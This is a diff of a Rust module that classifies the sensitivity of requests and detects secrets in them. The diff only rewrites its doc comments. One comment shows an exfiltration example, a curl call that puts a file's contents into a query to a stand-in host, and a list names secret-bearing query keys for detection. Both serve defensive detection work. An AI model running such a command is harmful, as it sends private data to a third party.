@@ -1,6 +1,5 @@
-//! How sensitive the data is that a request touches: by the resources of its
-//! acts, and by what stands in the text itself (`patterns`, held against their
-//! `checks`). What is secret is masked wherever the parser repeats the input.
+//! Data classification of a request: by the resources of its acts, and by the sensitive data in its text (`patterns`,
+//! confirmed by `checks`). Secrets are masked wherever the parser repeats the input.
 
 mod checks;
 mod conceal;
@@ -15,7 +14,7 @@ use crate::model::{Classification, Operation, Resource, RiskLevel, Target, Targe
 use super::reading::{Act, Format, Reading};
 use super::sign::{Sign, Signs};
 
-/// The most sensitive that any act touches.
+/// The highest classification among the acts.
 pub(super) fn of(acts: &[Act], signs: Signs) -> Classification {
     let by_act = acts.iter().map(|act| of_resource(act.resource, act.signs)).max().unwrap_or(Classification::Internal);
     let is_sensitive = signs.has(Sign::Secret) || signs.has(Sign::Sensitive);
@@ -37,16 +36,16 @@ fn of_resource(resource: Resource, signs: Signs) -> Classification {
     }
 }
 
-/// What patterns found in a text.
+/// The sensitive data that the patterns found in a text.
 #[derive(Debug, Default)]
 pub(super) struct Contents {
     signs: Signs,
     class: Option<Classification>,
-    /// The values that must not be repeated, the longest first.
+    /// The values that must not be repeated, sorted by length, longest first.
     secrets: Vec<String>,
 }
 
-/// Looks for sensitive data in a text and in what was unwrapped from it.
+/// Searches a text and the texts decoded from it for sensitive data.
 pub(super) fn scan(text: &str, unwrapped: &[String]) -> Contents {
     let mut contents = Contents::default();
     for text in std::iter::once(text).chain(unwrapped.iter().map(String::as_str)) {
@@ -57,18 +56,18 @@ pub(super) fn scan(text: &str, unwrapped: &[String]) -> Contents {
 }
 
 impl Contents {
-    /// The least class of what was found.
+    /// The highest classification among the findings; `PUBLIC` if there are none.
     pub(super) fn class(&self) -> Classification {
         self.class.unwrap_or(Classification::Public)
     }
 
-    /// Tells a reading what was found, and masks what it repeats of it.
+    /// Adds the findings to a reading, and masks the secrets in what it quotes.
     pub(super) fn mark(&self, reading: &mut Reading) {
         for sign in self.signs.iter() {
             reading.facts.signs.add(sign);
             reading.facts.show(sign, sign.text());
         }
-        // A command's words are put together anew: a secret may be whole only then.
+        // A shell command's words are assembled anew, and only then may a secret be whole.
         let by_piece = reading.format == Format::Shell || self.secrets.len() >= MOST_SECRETS;
         if self.secrets.is_empty() && !by_piece {
             return;
@@ -96,7 +95,7 @@ impl Contents {
         }
     }
 
-    /// What must not be kept of the text, with the secrets that its readers noted.
+    /// Collects the secrets that must not be stored, including those that the format readers noted.
     pub(super) fn redaction(self, reading: &mut Reading, is_whole: bool) -> Redaction {
         let mut secrets = self.secrets;
         secrets.append(&mut reading.facts.secrets);
@@ -104,7 +103,7 @@ impl Contents {
         Redaction { secrets, is_whole }
     }
 
-    /// An address that is opened takes what stands in it out of the house: a secret in one is sent.
+    /// Marks an opened address that contains a secret: opening it sends the secret to a third party.
     pub(super) fn mark_addresses(&self, reading: &mut Reading) {
         let leaks = |target: &Target| {
             [Some(target.value.as_str()), target.original.as_deref()].into_iter().flatten().any(|text| {
@@ -115,9 +114,9 @@ impl Contents {
         };
         let opens = |act: &Act| act.resource == Resource::Web && act.operation == Operation::Read;
         let is_opened = reading.acts.iter().any(opens);
-        // What a tool is handed besides the address goes there as well: parameters, headers, a search.
+        // Everything else that the call passes goes to the same address: parameters, headers, a search text.
         let is_handed_on = reading.format == Format::ToolCall && is_opened && !self.secrets.is_empty();
-        // `curl https://x.example/?d=$(cat notes)`: what is read beside is filled in.
+        // `curl https://x.example/?d=$(cat notes)`: the data read in the same call is put into the address.
         let is_filled_in = |part: &Unread| {
             let is_address = part.found.contains("://") || part.found.contains('?') || part.found.contains('.');
             is_address && (part.found.contains(['$', '`']) || part.found.contains("{}"))
@@ -144,8 +143,8 @@ impl Contents {
     }
 }
 
-/// Adds what a call sends that neither its name nor another argument says: to somebody who is named as a recipient, to an
-/// address that something is written to.
+/// Adds the sending that neither the call's name nor another argument states: to a named recipient, or to an address
+/// that is written to.
 fn sends_away(reading: &mut Reading) {
     let is_quiet = |act: &Act| {
         matches!(act.operation, Operation::Read | Operation::Write)
@@ -186,7 +185,7 @@ fn sends_away(reading: &mut Reading) {
     }
 }
 
-/// Whether a query of an address gives a value to a key that names a secret.
+/// Returns whether an address's query gives a value to a key that names a secret.
 fn names_secret_value(address: &str) -> bool {
     let query = address.split_once('?').map_or("", |(_, query)| query);
     let has_value = |pair: &str| {
@@ -201,7 +200,7 @@ fn names_secret_value(address: &str) -> bool {
         })
 }
 
-/// Keys of a query whose value is a secret.
+/// Query keys whose value is a secret.
 const SECRET_KEYS: &[&str] = &[
     "password",
     "passwd",
@@ -223,20 +222,20 @@ const SECRET_KEYS: &[&str] = &[
     "session_id",
     "credential",
 ];
-/// The shortest value that is taken for a secret, in bytes.
+/// Length of the shortest value that counts as a secret, in bytes.
 const LEAST_SECRET: usize = 6;
-/// Pairs of a query that are looked at.
+/// Maximum number of query pairs that are looked at.
 const MOST_PAIRS: usize = 256;
 
-/// Makes what classifying needs, once, so that no request waits for it.
+/// Compiles the patterns ahead of time, so that no request has to wait for it.
 pub(crate) fn prepare() {
     patterns::prepare();
 }
 
-/// The secrets in a text, the longest first.
+/// The secrets in a text, sorted by length, longest first.
 fn secrets_of(text: &str) -> Vec<String> {
     if looks::is_short_word(text) { Vec::new() } else { scan(text, &[]).secrets }
 }
 
-/// More secrets than these in one text are not collected: what is repeated is then looked at piece by piece.
+/// Maximum number of secrets collected from one text; beyond it, each quoted piece is scanned separately.
 const MOST_SECRETS: usize = 64;
